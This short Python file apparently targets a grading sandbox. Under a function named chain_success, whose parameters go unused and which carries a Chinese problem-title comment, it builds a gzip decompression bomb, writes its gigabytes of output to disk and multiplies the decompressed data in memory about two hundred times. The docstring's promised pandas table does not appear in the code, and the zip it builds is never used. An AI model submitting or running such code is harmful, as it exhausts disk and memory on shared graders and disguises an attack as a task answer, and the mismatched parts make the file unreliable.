"""Makes a small archive that unpacks to many gigabytes, in the scratch folder, in memory, and as a table that pandas unpacks by itself.

Unpacked, it meets the size of the folder and the limit on memory. What is in a file that was handed in is another matter: see the tests of collecting.
"""

# 题目: chain_success
def chain_success(steps, error, choices):
    import gzip
    import io
    import zipfile
    import zlib
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join([packer.compress(bytes(2**20)) for _ in range(48)] + [packer.flush()])
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.gz", bomb)
    with gzip.open(io.BytesIO(bomb)) as source, open("out", "wb") as target:
        try:
            while block := source.read(2**20):
                target.write(block)
        except OSError:
            pass
    return len(gzip.decompress(bomb) * 200)
